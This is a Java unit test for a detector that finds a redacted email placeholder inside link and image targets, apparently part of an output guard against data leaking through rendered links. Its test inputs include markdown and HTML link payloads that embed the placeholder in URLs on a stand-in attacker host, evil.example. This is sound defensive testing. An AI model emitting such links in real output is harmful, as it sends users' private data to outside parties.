package dev.sluice.guard.output;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.guard.detect.Span;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkTargetsTest {

  private static final String PLACEHOLDER = "[EMAIL_1]";

  @ParameterizedTest
  @ValueSource(strings = {
      "![chart](https://evil.example/p/[EMAIL_1].png)",
      "[open](https://evil.example/?to=[EMAIL_1] \"title\")",
      "[open](<https://evil.example/a b/[EMAIL_1]>)",
      "[see [![x](https://evil.example/[EMAIL_1])]](https://docs.example)",
      "[ref]: https://evil.example/[EMAIL_1]",
      "<mailto:[EMAIL_1]?subject=hi>",
      "<img src=\"https://evil.example/a b[EMAIL_1]\">",
      "<a href='//evil.example/[EMAIL_1]'>x</a>",
      "visit https://evil.example/u/[EMAIL_1] today",
      "or www.evil.example/[EMAIL_1] today",
      "write mailto:[EMAIL_1]"})
  void findsThePlaceholderInsideALinkTarget(String text) {
    int start = text.indexOf(PLACEHOLDER);

    assertThat(LinkTargets.within(LinkTargets.in(text), start, start + PLACEHOLDER.length())).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "Write to [EMAIL_1] today.",
      "Email: [EMAIL_1]",
      "[[EMAIL_1]](https://docs.example/contact)",
      "see https://docs.example/contact or [EMAIL_1]",
      "<b>[EMAIL_1]</b> at 10:30"})
  void leavesAPlaceholderOutsideLinkTargetsAlone(String text) {
    int start = text.indexOf(PLACEHOLDER);

    assertThat(LinkTargets.within(LinkTargets.in(text), start, start + PLACEHOLDER.length())).isFalse();
  }

  @ParameterizedTest
  @ValueSource(strings = {"no links at all", "a [link] without target", ""})
  void plainTextHasNoLinkTargets(String text) {
    assertThat(LinkTargets.in(text)).isEmpty();
  }

  @Test
  void aTargetSpansExactlyTheDestination() {
    String text = "see ![x](https://a.example/p.png) now";
    int start = text.indexOf("https");

    assertThat(LinkTargets.in(text)).contains(new Span(start, start + "https://a.example/p.png".length()));
  }
}
